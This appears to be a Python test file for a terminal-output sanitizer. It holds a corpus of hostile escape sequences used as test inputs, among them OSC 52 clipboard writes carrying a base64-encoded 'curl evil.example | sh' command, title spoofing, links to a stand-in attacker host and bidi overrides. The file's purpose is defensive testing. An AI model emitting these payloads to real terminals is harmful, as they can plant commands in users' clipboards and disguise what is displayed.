"""The console sanitizer against real hostile payloads, split anywhere, and under a real pty."""

from __future__ import annotations

import base64
import json
import os
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pvc_tui.cluster.sanitize import ConsoleSanitizer, sanitize_line

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
SECRET = base64.b64encode(b"curl evil.example | sh # clipboard").decode()
GETTY_RESET = (  # what serial-getty writes when it resets the terminal
    f"{ESC}[!p{ESC}]104{ST}{ESC}[0m{ESC}[?7h{ESC}[1G{ESC}[0J{ESC}[6n{ESC}[32766;32766H{ESC}[6n"
)
SYSTEMD_START = f"{ESC}]3008;start=0f1e6a;type=service;unit=cloud-final.service{ST}"
SYSTEMD_END = f"{ESC}]3008;end=0f1e6a;exit=success{ST}"
INVALID_UTF8 = b"ok \xff\xfe bad \xc3(".decode("utf-8", "surrogateescape")
MARKUP = "[bold]x[/] [@click=app.quit]"

# (name, payload, exact output of feed(payload) + flush())
CORPUS: list[tuple[str, str, str]] = [
    ("osc52-bel", f"hello {ESC}]52;c;{SECRET}{BEL} world", "hello  world"),
    ("osc52-st", f"hello{ESC}]52;c;{SECRET}{ST}world", "helloworld"),
    ("osc52-read", f"a{ESC}]52;c;?{BEL}b", "ab"),
    ("osc0-title", f"{ESC}]0;pwned by guest{BEL}prompt$ ", "prompt$ "),
    ("osc2-title-st", f"{ESC}]2;evil title{ST}ok", "ok"),
    ("osc8-link", f"see {ESC}]8;;https://evil.example/x{ST}the docs{ESC}]8;;{ST} now",
     "see the docs now"),
    ("da1", f"before{ESC}[cafter", "beforeafter"),
    ("decrqss", f"x{ESC}P$qm{ST}y", "xy"),
    ("csi-6n", f"row{ESC}[6ncol", "rowcol"),
    ("getty-reset", GETTY_RESET + "login: ", "login: "),
    ("esc-c", f"{ESC}cclean", "clean"),
    ("esc-two-byte", f"{ESC}7saved{ESC}8 {ESC}(Bascii{ESC}#8", "saved ascii"),
    ("c1-csi", "\u009b31mred\u009b0m text", "red text"),
    ("c1-osc", "\u009d0;c1 title\u009cshown", "shown"),
    ("c1-other", "a\u0085b\u008dc\u009cd", "abcd"),
    ("bidi", "\u202eevil\u202c \u2066iso\u2069 \u200fx\u061c\u200e\u202a", "evil iso x"),
    ("systemd-osc3008", f"{SYSTEMD_START}Starting cloud-final.service...\r\n{SYSTEMD_END}",
     "Starting cloud-final.service...\n"),
    ("osc-unterminated", f"x{ESC}]0;never terminated {SECRET}\nnormal text\n",
     "x\nnormal text\n"),
    ("invalid-utf8", INVALID_UTF8, "ok \ufffd\ufffd bad \ufffd("),
    ("long-line", "A" * 5000, "A" * 4095 + "…"),
    ("progress", "10%\r20%\r100%\r\nnext\r\n", "100%\nnext\n"),
    ("markup", MARKUP, MARKUP),
    ("apc-kitty", f"{ESC}_Gf=100,a=T;{SECRET}{ST}pic", "pic"),
    ("sos-pm", f"{ESC}Xsos{ST}{ESC}^pm{ST}ok", "ok"),
    ("c0-noise", "a\x00b\x07c\x08d\x7fe\tf\x0bg\x0ch", "abcde\tfgh"),
    ("can-aborts", f"{ESC}]0;abc\x18vis", "vis"),
    ("esc-ends-osc", f"{ESC}]0;t{ESC}[31mred", "red"),
    ("dcs-ignores-bel", f"{ESC}Pq#0{BEL}still{ST}shown", "shown"),
    ("csi-bad-char", f"{ESC}[1éx", "éx"),
    ("esc-at-eol", f"a{ESC}\nHello{ESC}[\nWorld", "a\nHello\nWorld"),
    ("separators", "a\u2028b\u2029c", "abc"),
]
IDS = [name for name, _, _ in CORPUS]
SEPARATORS = frozenset("\u2028\u2029")
BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def forbidden(out: str, newline_ok: bool = True) -> list[str]:
    """The characters of `out` that must never reach a terminal."""
    bad = []
    for ch in out:
        cp = ord(ch)
        if ch == "\t" or (ch == "\n" and newline_ok):
            continue
        if cp < 0x20 or 0x7F <= cp <= 0x9F or 0xD800 <= cp <= 0xDFFF or ch in BIDI | SEPARATORS:
            bad.append(ch)
    return bad


def whole(text: str, **kw: int) -> str:
    s = ConsoleSanitizer(**kw)
    return s.feed(text) + s.flush()


def pieces(parts: list[str], **kw: int) -> str:
    s = ConsoleSanitizer(**kw)
    return "".join(s.feed(p) for p in parts) + s.flush()


@pytest.mark.parametrize(("name", "payload", "expected"), CORPUS, ids=IDS)
def test_corpus(name: str, payload: str, expected: str) -> None:
    out = whole(payload)
    assert out == expected
    assert forbidden(out) == []
    assert SECRET not in out and "evil.example" not in out and "pwned" not in out


@pytest.mark.parametrize(("name", "payload", "expected"), CORPUS, ids=IDS)
def test_every_split_point(name: str, payload: str, expected: str) -> None:
    small = {"max_line_chars": 7, "max_sequence_chars": 5}  # cuts and caps, split too
    small_expected = whole(payload, **small)
    for k in range(len(payload) + 1):
        assert pieces([payload[:k], payload[k:]]) == expected, k
        assert pieces([payload[:k], payload[k:]], **small) == small_expected, k
    assert pieces(list(payload)) == expected  # every boundary at once
    assert pieces(list(payload), **small) == small_expected


@pytest.mark.parametrize(("name", "payload", "expected"), CORPUS, ids=IDS)
def test_feed_then_feed_line(name: str, payload: str, expected: str) -> None:
    if "\n" in payload:
        return
    assert sanitize_line(payload) == expected
    for k in range(0, len(payload) + 1, max(1, len(payload) // 200)):
        s = ConsoleSanitizer()
        assert s.feed(payload[:k]) == ""
        assert s.feed_line(payload[k:]) == expected


def test_line_rules() -> None:
    s = ConsoleSanitizer(max_line_chars=5)
    assert s.feed_line("a\r") == "a"
    assert s.feed_line("abcde") == "abcde"
    assert s.feed_line("abcdef") == "abcd…"
    assert s.feed_line("abcdefgh\rxy") == "xy"  # a CR overwrites a cut line too
    assert s.feed_line("one\ntwo") == "one two"
    assert s.feed("partial") == "" and s.pending() == "part…"
    assert s.feed(" line\r") == "" and s.pending() == "part…"
    assert s.feed("\nnext") == "part…\n" and s.flush() == "next"
    s.feed(f"x{ESC}]0;")
    s.reset()
    assert s.feed_line("title") == "title"
    with pytest.raises(ValueError):
        ConsoleSanitizer(max_line_chars=0)


def test_sequence_cap_is_bounded() -> None:
    s = ConsoleSanitizer(max_sequence_chars=8)
    assert s.feed_line(f"{ESC}]0;123456{BEL}visible") == "visible"
    assert s.feed_line(f"{ESC}]0;1234567visible") == "7visible"  # abandoned after 8 chars
    assert s.feed_line(f"{ESC}[" + "1" * 8 + "mok") == "ok"
    assert s.feed_line(f"{ESC}[" + "1" * 9 + "mok") == "1mok"


FRAGMENTS = [ESC, "[", "]", "P", "X", "^", "_", "(", "#", " ", BEL, ST, "\u009b", "\u009c",
             "\u009d", "\u0090", "\r", "\n", "\r\n", "\x18", "\t", "\x7f", "\x00", "52;c;", "8;;",
             "31m", "6n", "\udcff", "\u202e", "é", "hello", "[bold]"]
FRAGMENTS += [payload for _, payload, _ in CORPUS if len(payload) < 200]
ANY_CHAR = st.one_of(
    st.characters(),
    st.characters(min_codepoint=0, max_codepoint=0xA0),
    st.integers(0xD800, 0xDFFF).map(chr),
    st.sampled_from(sorted(BIDI)),
)
MIXED = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(ANY_CHAR, max_size=8)),
                 max_size=30).map("".join)
CONFIGS = st.sampled_from([{}, {"max_line_chars": 7, "max_sequence_chars": 5}])


@settings(max_examples=300, deadline=None)
@given(MIXED, st.lists(st.integers(0, 400), max_size=8), CONFIGS)
def test_random_multi_splits(text: str, cuts: list[int], config: dict[str, int]) -> None:
    points = sorted({c % (len(text) + 1) for c in cuts})
    parts = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    assert pieces(parts, **config) == whole(text, **config)


@settings(max_examples=300, deadline=None)
@given(st.one_of(MIXED, st.text(ANY_CHAR)), CONFIGS)
def test_output_never_holds_a_forbidden_character(text: str, config: dict[str, int]) -> None:
    out = whole(text, **config)
    assert forbidden(out) == []
    line = ConsoleSanitizer(**config).feed_line(text)
    assert forbidden(line, newline_ok=False) == []
    if config:
        assert all(len(x) <= 7 for x in out.split("\n"))


CHILD = """
import json, sys
from pvc_tui.cluster.sanitize import ConsoleSanitizer
s = ConsoleSanitizer()
for payload in json.loads(sys.stdin.read()):
    sys.stdout.write(s.feed(payload + "\\n"))
sys.stdout.flush()
"""


def test_nothing_acted_on_reaches_a_real_pty() -> None:
    corpus = [payload for _, payload, _ in CORPUS]
    master, slave = os.openpty()
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    try:
        child = subprocess.Popen([sys.executable, "-c", CHILD], stdin=subprocess.PIPE,
                                 stdout=slave, cwd=Path(__file__).parents[1], env=env)
        os.close(slave)
        assert child.stdin is not None
        child.stdin.write(json.dumps(corpus).encode())  # JSON keeps lone surrogates
        child.stdin.close()
        received = bytearray()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if not ready:
                if child.poll() is not None:
                    break
                continue
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed the pty
                break
            if not data:
                break
            received += data
        assert child.wait(timeout=10) == 0
    finally:
        os.close(master)
    assert b"\x1b" not in received and b"\xc2\x9b" not in received and b"\x07" not in received
    text = received.decode("utf-8")
    assert forbidden(text.replace("\r\n", "\n")) == []  # the pty turns "\n" into "\r\n"
    for word in ("hello", "world", "login: ", "Starting cloud-final", MARKUP, "100%"):
        assert word in text
    assert SECRET not in text
